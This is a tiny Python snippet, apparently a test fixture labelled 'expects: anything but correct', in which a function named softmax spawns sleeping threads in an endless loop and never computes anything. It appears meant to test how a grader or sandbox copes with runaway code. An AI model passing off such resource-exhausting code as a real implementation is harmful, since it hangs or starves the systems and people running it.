# expects: anything but correct
import threading, time
def softmax(x, axis=-1):
    while True: threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
